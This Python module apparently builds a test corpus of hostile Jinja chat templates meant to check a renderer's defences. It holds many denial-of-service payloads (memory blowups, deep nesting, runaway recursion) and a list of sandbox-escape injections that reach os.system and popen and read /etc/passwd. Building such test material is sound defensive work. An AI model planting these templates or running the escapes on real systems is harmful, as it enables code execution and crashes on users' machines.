"""Chat templates that somebody might put into a model's folder to harm its users: families of attacks, in several sizes."""

from __future__ import annotations

from collections.abc import Iterator

_GROWN = "{%% set s = namespace(x=%s) %%}{%% for _ in range(%d) %%}{%% set s.x = %s %%}{%% endfor %%}{{ %s }}"
_SHARED = "{% set s = namespace(x=%s) %}{% for _ in range(60) %}{% set s.x = %s %}{% endfor %}"
_LONG = "{% set x = 'a' * N %}"


def hostile() -> dict[str, str]:
    """The templates by name; the name says family and size."""
    templates: dict[str, str] = {}
    for family in (_repeated, _widths, _powers, _doubled, _shared, _multiplied, _encoded, _iterated, _nested, _written, _escapes):
        for name, source in family():
            key = f"{family.__name__[1:]}: {name}"
            assert key not in templates, key
            templates[key] = source
    return templates


def _sized(forms: dict[str, str], *sizes: int) -> Iterator[tuple[str, str]]:
    for name, form in forms.items():
        for size in sizes:
            yield f"{name}, {size:.0e}", form.replace("N", str(size))


def _repeated() -> Iterator[tuple[str, str]]:
    forms = {
        "a text": "{{ 'a' * N }}",
        "a text on the right": "{% set n = N %}{{ n * messages[0].content }}",
        "a list": "{% set n = N %}{{ ([0] * n) | length }}",
        "a tuple": "{% set n = N %}{{ ((1, 2) * n) | length }}",
        "bytes": "{% set n = N %}{{ ('a'.encode() * n) | length }}",
    }
    yield from _sized(forms, 10**7, 10**9, 10**12, 10**30)


def _widths() -> Iterator[tuple[str, str]]:
    forms = {
        "ljust": "{{ 'a'.ljust(N) }}",
        "zfill": "{{ 'a'.zfill(N) }}",
        "center": "{{ 'a' | center(N) }}",
        "expandtabs": "{{ 'a\\t'.expandtabs(N) }}",
        "expandtabs of bytes": "{{ 'a\\t'.encode().expandtabs(N) | length }}",
        "indent": "{{ 'a\\nb' | indent(width=N) }}",
        "percent": "{{ '%Nd' % 1 }}",
        "percent of a float": "{{ '%.Nf' % 1 }}",
        "a width that is given": "{{ '%*d' % (N, 1) }}",
        "format": "{{ '{:>N}'.format(1) }}",
        "the filter format": "{{ '%Ns' | format(1) }}",
        "tojson": "{{ [[1]] | tojson(indent=N) }}",
        "wordwrap": "{{ ('a' * 99999) | wordwrap(1, wrapstring='b' * (N // 99)) }}",
        "batch": "{{ [1] | batch(N, 0) | list | length }}",
        "slice": "{{ [1] | slice(N, 0) | list | length }}",
        "round": "{{ 1.5 | round(N) }}",
        "lipsum": "{{ lipsum(n=N) }}",
        "to_bytes": "{{ (1).to_bytes(N, 'big') | length }}",
        "strftime": "{{ strftime_now('%Nd') }}",
    }
    yield from _sized(forms, 10**8, 10**11)


def _powers() -> Iterator[tuple[str, str]]:
    forms = {
        "of ten": "{% set n = N %}{{ (10 ** n) is odd }}",
        "in a power": "{% set n = 7 %}{{ (n ** n ** n ** n) is odd }}{# N #}",
        "of a float": "{% set n = N %}{{ 1.5 ** n }}",
        "in digits": "{% set n = N %}{{ 10 ** n }}",
        "as a constant": "{{ (9 ** N) % 7 }}",
        "divided": "{% set n = N %}{{ (10 ** n // 3 ** n) is odd }}",
        "by squaring": "{% set s = namespace(x=3) %}{% for _ in range(N) %}{% set s.x = s.x * s.x %}{% endfor %}{{ s.x is odd }}",
    }
    yield from _sized(forms, 10**5, 10**8, 10**11)


def _doubled() -> Iterator[tuple[str, str]]:
    for rounds in (25, 60, 1000):
        for name, start, step in (
            ("~", "'aaaaaaaa'", "s.x ~ s.x"),
            ("+", "'aaaaaaaa'", "s.x + s.x"),
            ("a list", "[1]", "s.x + s.x"),
            ("a tuple", "(1,)", "s.x + s.x"),
            ("bytes", "'aaaaaaaa'.encode()", "s.x + s.x"),
            ("join", "'aa'", "s.x.join([s.x, s.x])"),
            ("the filter join", "'aa'", "[s.x, s.x] | join(s.x)"),
            ("percent", "'aa'", "'%s%s' % (s.x, s.x)"),
            ("format", "'aa'", "'{0}{0}'.format(s.x)"),
            ("replace", "'aa'", "s.x.replace('a', 'aa')"),
            ("a dictionary in a list", "[{'a': 1}]", "s.x + s.x"),
        ):
            yield f"{name}, {rounds} rounds", _GROWN % (start, rounds, step, "s.x | length")


def _shared() -> Iterator[tuple[str, str]]:
    """A list of itself twice, 60 deep: small until somebody walks through it."""
    for kind, start, step in (
        ("lists", "[1]", "[s.x, s.x]"),
        ("tuples", "(1,)", "(s.x, s.x)"),
        ("tables", "{}", "{1: s.x, 2: s.x}"),
    ):
        grown = _SHARED.replace("%s", start, 1).replace("%s", step, 1)
        other = grown.replace("s.x", "t.x").replace("s = ", "t = ")
        for name, use in (
            ("printed", "{{ s.x }}"),
            ("string", "{{ s.x | string | length }}"),
            ("tojson", "{{ s.x | tojson }}"),
            ("pprint", "{{ s.x | pprint }}"),
            ("percent", "{{ '%s' % s.x }}"),
            ("escape", "{{ s.x | escape }}"),
        ):
            yield f"{kind}, {name}", grown + use
        yield f"{kind}, compared", grown + other + "{{ s.x == t.x }}"
        yield f"{kind}, searched", grown + other + "{{ s.x in [t.x] }}"


def _multiplied() -> Iterator[tuple[str, str]]:
    forms = {
        "replace": _LONG + "{{ x.replace('a', x) | length }}",
        "replace nothing": _LONG + "{{ x.replace('', x) | length }}",
        "the filter replace": _LONG + "{{ x | replace('a', x) | length }}",
        "join": _LONG + "{{ x.join(x) | length }}",
        "the filter join": _LONG + "{{ x | join(x) | length }}",
        "join a list": _LONG + "{{ ([x] * N) | join | length }}",
        "translate": _LONG + "{{ x.translate({97: x}) | length }}",
        "tojson with separators": _LONG + "{{ ([1] * N) | tojson(separators=(x, x)) | length }}",
        "tojson with an indentation": _LONG + "{{ [[[[1] * N]]] | tojson(indent=x) | length }}",
        "indent": _LONG + "{{ ('b\\n' * N) | indent(x) | length }}",
        "wordwrap": _LONG + "{{ x | wordwrap(1, wrapstring=x) | length }}",
        "batch": _LONG + "{{ x | batch(2) | list | tojson | length }}",
        "sum": "{{ ([[1] * 99] * N) | sum(start=[]) | length }}",
        "xmlattr": _LONG + "{{ {x: x * 99} | xmlattr | length }}",
        "splitting": _LONG + "{{ x.replace('a', 'a ').split() | map('string') | list | tojson | length }}",
    }
    yield from _sized(forms, 10**5, 10**6)


def _encoded() -> Iterator[tuple[str, str]]:
    forms = {
        "utf-32": "{{ ('a' * N).encode('utf-32') | length }}",
        "punycode": "{{ ('aé' * N).encode('punycode') | length }}",
        "idna": "{{ ('é' * N).encode('idna') | length }}",
        "unicode_escape": "{{ ('\U0001f600' * N).encode('unicode_escape') | length }}",
        "xmlcharrefreplace": "{{ ('é' * N).encode('ascii', 'xmlcharrefreplace') | length }}",
        "urlencode": "{{ ('é' * N) | urlencode | length }}",
        "escape": "{{ ('<' * N) | escape | length }}",
        "striptags": "{{ ('<' * N) | striptags | length }}",
        "urlize": "{{ ('www.a.b,' * N) | urlize | length }}",
        "title": "{{ ('ß ' * N) | title | length }}",
        "case": "{{ ('ΐ' * N).upper().casefold() | length }}",
        "hex": "{{ ('a' * N).encode().hex() | length }}",
        "bytes as text": "{{ ('é' * N).encode() | string | length }}",
        "a lone surrogate": "{{ '\\ud800' * (N // 10) }}",
    }
    yield from _sized(forms, 10**6, 10**7)


def _iterated() -> Iterator[tuple[str, str]]:
    forms = {
        "nested loops": "{% for a in range(N) %}" * 3 + "{% endfor %}" * 3,
        "a loop over a product": "{% for a in range(N) | batch(1) | list * N %}{{ a }}{% endfor %}",
        "a macro that calls itself twice": "{% macro f(n) %}{% if n %}{{ f(n - 1) * 2 }}{{ f(n - 1) }}{% endif %}{% endmacro %}"
        "{{ f([N, 60] | min) }}",
        "a macro that calls itself": "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(N) }}",
        "a recursive loop": "{% for a in [[1]] * N recursive %}{{ loop([a, a]) }}{% endfor %}",
        "a call block": "{% macro f() %}{{ caller() }}{{ caller() }}{% endmacro %}"
        "{% call f() %}{% for a in range(N) %}{% call f() %}{{ a }}{% endcall %}{% endfor %}{% endcall %}",
        "a block in itself": "{% block a %}{{ self.a() }}{{ self.a() }}{% endblock %}{# N #}",
        "lists of lists": "{% set s = namespace(x=[]) %}{% for a in range(N) %}{% set s.x = [s.x] %}{% endfor %}{{ s.x }}",
        "sorting": "{{ (range(N) | list * 99) | sort(reverse=true) | length }}",
        "groups": "{% for a in range(N) %}{{ range(N) | groupby('real') | length }}{% endfor %}",
        "a sum of texts": "{% set s = namespace(x='') %}{% for a in range(N) %}{% set s.x = s.x + 'aaaaaaa' * N %}{% endfor %}",
        "unique": "{% for a in range(N) %}{{ range(N) | unique | list | length }}{% endfor %}",
    }
    yield from _sized(forms, 300, 90_000)


def _nested() -> Iterator[tuple[str, str]]:
    for depth in (90, 5_000, 100_000):
        for name, before, middle, after in (
            ("parentheses", "{{ " + "(" * depth, "1", ")" * depth + " }}"),
            ("brackets", "{{ " + "[" * depth, "1", "]" * depth + " }}"),
            ("tables", "{{ " + "{1: " * depth, "1", "}" * depth + " }}"),
            ("not", "{{ " + "not " * depth, "1", " }}"),
            ("minus", "{{ " + "- " * depth, "1", " }}"),
            ("filters", "{{ 'a'", " | trim" * depth, " }}"),
            ("attributes", "{{ messages", ".a" * depth, " }}"),
            ("concatenation", "{{ 'a'", " ~ 'a'" * depth, " }}"),
            ("calls", "{{ range" + "(range" * depth, "(1)", ")" * depth + " }}"),
            ("if", "{% if 1 %}" * depth, "a", "{% endif %}" * depth),
            ("for", "{% for a in [1] %}" * depth, "a", "{% endfor %}" * depth),
            ("generation", "{% generation %}" * depth, "a", "{% endgeneration %}" * depth),
            ("statements", "{% set a = 1 %}" * depth, "a", ""),
            ("blocks", "".join(f"{{% block a{n} %}}" for n in range(depth)), "a", "{% endblock %}" * depth),
            ("openings", "{{ " * depth, "", ""),
        ):
            yield f"{name}, {depth:,}", before + middle + after


def _written() -> Iterator[tuple[str, str]]:
    forms = {
        "output": _LONG + "{% for _ in range(9999) %}{{ x }}{% endfor %}",
        "a message": "{{ raise_exception('a\\n' * N) }}",
        "a missing name": _LONG + "{{ messages[x] }}{{ {}[x].y }}",
        "marks": "{{ '\ufdd0' * N }}{{ '\ufdd1' * N }}",
        "an index": "{{ messages[N ** 3] }}",
        "a text of the template's own": "a" * 10**6 + "{# N #}",
    }
    yield from _sized(forms, 10**4, 10**6)


def _escapes() -> Iterator[tuple[str, str]]:
    for number, source in enumerate(
        (
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ messages.append(1) }}{{ messages | length }}",
            "{{ messages[0].update(a=1) }}",
            "{{ ''['__class__'] }}",
            "{{ '' | attr('__class__') | attr('__base__') }}",
            "{{ cycler.__init__.__globals__.os.system('true') }}",
            "{{ lipsum.__globals__['os'].popen('id').read() }}",
            "{{ range.__self__ }}",
            "{{ raise_exception.__globals__ }}",
            "{{ strftime_now.__code__ }}",
            "{{ '{0.__class__.__init__.__globals__}'.format(raise_exception) }}",
            "{{ ('{0.__class__}' | attr('format'))(1) }}",
            "{{ '{a.__class__}'.format_map({'a': 1}) }}",
            "{% set n = namespace(__init__=1) %}{{ n.__init__ }}",
            "{% set n = namespace() %}{% set n.__class__ = 1 %}{{ n }}",
            "{% include '/etc/passwd' %}",
            "{% import 'os' as os %}{{ os.getcwd() }}",
            "{% extends 'a' %}",
            "{{ self.__init__.__globals__ }}",
            "{{ self._TemplateReference__context.environment }}",
            "{{ joiner.__init__.__globals__ }}",
            "{{ [1] | map(attribute='__class__') | list }}",
            "{{ [''] | map('attr', '__class__') | list }}",
            "{{ [[1]] | tojson(cls=namespace) }}",
            "{{ [[1]] | tojson(default=range) }}",
        )
    ):
        yield f"{number}", source
